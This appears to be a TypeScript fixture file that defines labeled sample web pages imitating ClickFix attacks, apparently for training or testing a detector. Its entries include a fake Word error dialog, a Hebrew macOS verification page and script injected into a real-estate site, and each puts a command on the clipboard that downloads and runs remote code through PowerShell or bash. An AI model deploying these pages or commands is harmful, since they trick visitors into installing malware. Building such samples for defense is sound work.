import { htmlRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute } from '../parts/e-bin.js';
import { FONT_AR, FONT_HE, LOGO, b64, codes, doc, psEnc, reverse } from '../parts/yu-kit.js';

// ClickFix: fake CAPTCHAs and "fix it" dialogs that put a command on the clipboard and walk the
// visitor through Win+R / Terminal / File Explorer to run it. Hebrew, Arabic, Russian and English.

export const entries: Entry[] = [
{
  id: 'yu-clickfix-word-online-extension-fix',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://sharepoint-docs-viewer.online/personal/finance/Doc.aspx?file=Q3_Payroll_Summary.docx',
  body: doc({
    title: 'Q3_Payroll_Summary.docx - Word',
    lang: 'en',
    css: `body{margin:0;font-family:'Segoe UI',Arial;background:#f3f2f1}.rib{background:#2b579a;color:#fff;padding:8px 16px}.pg{max-width:760px;margin:20px auto;background:#fff;height:500px;filter:blur(2px);padding:30px;color:#aaa}
.dlg{position:fixed;top:18%;left:50%;transform:translateX(-50%);width:520px;background:#fff;border:1px solid #c8c6c4;box-shadow:0 8px 30px rgba(0,0,0,.3);padding:22px}
.dlg h3{margin-top:0;color:#a4262c}.dlg button{background:#0078d4;color:#fff;border:0;padding:8px 18px}pre{background:#f3f2f1;padding:8px;font-size:12px;white-space:pre-wrap;display:none}`,
    body: `<div class="rib">Word · Q3_Payroll_Summary.docx</div><div class="pg">Payroll summary Q3 2025 ... Department ... Gross ... Net ...</div>
<div class="dlg"><h3>⚠ Error: "Word Online" extension is not installed</h3><p>The document cannot be displayed correctly because the Word Online browser extension is missing.</p>
<p><b>How to fix:</b></p><ol><li>Click the <b>"How to fix"</b> button to copy the fix</li><li>Open PowerShell (right-click Start → Windows PowerShell)</li><li>Right-click inside the window to paste and press Enter</li><li>Refresh this page</li></ol>
<button id="fx">How to fix</button><pre id="pr"></pre></div>
<script>
var _e="${psEnc("$p=\"$env:TEMP\\wdext.ps1\";iwr 'https://sharepoint-docs-viewer.online/_layouts/ext/install.ps1' -OutFile $p;powershell -ep bypass -f $p")}";
document.getElementById("fx").onclick=function(){var s="powershell -nop -w hidden -enc "+_e;navigator.clipboard.writeText(s);this.textContent="Copied ✓ Now paste into PowerShell"};
</script>`,
  }),
},
{
  id: 'yu-clickfix-macos-terminal-hebrew',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://dirot-yokra-tlv.com/nachsim/verify/mac',
  body: doc({
    title: 'אימות גישה',
    lang: 'he',
    css: `body{margin:0;font-family:-apple-system,${FONT_HE};background:#f5f5f7}.c{max-width:460px;margin:70px auto;background:#fff;border-radius:14px;padding:26px;box-shadow:0 6px 30px rgba(0,0,0,.1)}
.b{background:#0071e3;color:#fff;border:0;border-radius:10px;padding:12px 22px;font-size:16px}.st{display:none;line-height:2;margin-top:14px}kbd{background:#eee;border-radius:4px;padding:1px 6px;border:1px solid #ccc}`,
    body: `<div class="c"><h2>אימות לפני צפייה בנכסים</h2><p>כדי להגן על המודעות שלנו מפני בוטים, משתמשי Mac נדרשים לבצע אימות חד-פעמי.</p>
<button class="b" id="v">אמת אותי</button>
<div class="st" id="st">1. לחצו <kbd>⌘ Command</kbd> + <kbd>Space</kbd> והקלידו <b>Terminal</b><br>2. הדביקו עם <kbd>⌘</kbd> + <kbd>V</kbd><br>3. לחצו <kbd>Return</kbd> והזינו את סיסמת המחשב אם תתבקשו</div></div>
<script>
var k=[${JSON.stringify(b64('/bin/bash -c "$(curl -fsSL https://dirot-yokra-tlv.com/nachsim/verify/install.sh)"'))}];
document.getElementById("v").onclick=function(){navigator.clipboard.writeText(atob(k[0]));document.getElementById("st").style.display="block"};
</script>`,
  }),
  routes: {
    'dirot-yokra-tlv.com/nachsim/verify/install.sh': fileRoute(
      `#!/bin/bash\ncd /tmp && curl -fsSL -o .upd https://cdn-mac-helper.net/a/update && xattr -c .upd && chmod +x .upd && ./.upd >/dev/null 2>&1 &\n`,
      'text/x-shellscript',
    ),
  },
},
{
  id: 'yu-clickfix-injected-realestate-wp',
  label: 'clickfix',
  kind: 'clickfix-compromised-site',
  url: 'https://www.nadlan-hasharon-realty.co.il/properties/kfar-saba-penthouse/',
  body: doc({
    title: 'פנטהאוז 5 חדרים בכפר סבא | נדל״ן השרון',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE}}.h{background:#1f2937;color:#fff;padding:14px 22px}.p{max-width:800px;margin:20px auto;padding:0 14px;line-height:1.8}.im{height:220px;background:linear-gradient(120deg,#cbd5e1,#94a3b8)}`,
    body: `<div class="h">נדל״ן השרון · נכסים למכירה ולהשכרה</div>
<div class="p"><div class="im"></div><h1>פנטהאוז 5 חדרים עם מרפסת גג, כפר סבא</h1><p>מחיר: 4,650,000 ₪ · 160 מ״ר + 70 מ״ר מרפסת · 2 חניות · מחסן</p><p>פנטהאוז מרהיב בבניין בוטיק חדש בשכונה הירוקה, נוף פתוח לכל הכיוונים…</p></div>
<script src="https://cdn-jsdelivr-stats.com/wp/analytics.min.js?v=3.1" async></script>`,
  }),
  routes: {
    'cdn-jsdelivr-stats.com/wp/analytics.min.js': jsRoute(
      `(function(){if(localStorage.getItem("_vfd"))return;var ov=document.createElement("div");ov.style.cssText="position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:2147483647;display:flex;align-items:center;justify-content:center;direction:rtl;font-family:Arial";
ov.innerHTML=decodeURIComponent(escape(atob("${b64('<div style="border:1px solid #ccc;padding:24px;width:380px;box-shadow:0 2px 10px #0002"><h3>בדיקת אבטחה</h3><p>האתר צריך לוודא שאינך רובוט.</p><label style="display:flex;gap:10px;align-items:center;border:1px solid #ddd;padding:12px"><input type="checkbox" id="_vc"> אני אנושי</label><div id="_vs" style="display:none;line-height:2;margin-top:12px">כדי להשלים את האימות:<br>1. Win + R<br>2. Ctrl + V<br>3. Enter</div></div>')}")));
document.body.appendChild(ov);
var p=["pow","ers","hell"," -W Hid","den -c ","\\"$u=(","'htt'+'ps://'+'cdn-jsdelivr-stats.com/wp/'+'x.ps1');","iex(irm $u)\\"", " # I am not a robot - reCAPTCHA ID 88213"];
document.getElementById("_vc").onclick=function(){navigator.clipboard.writeText(p.join(""));document.getElementById("_vs").style.display="block";localStorage.setItem("_vfd","1")};})();`,
    ),
  },
},
];
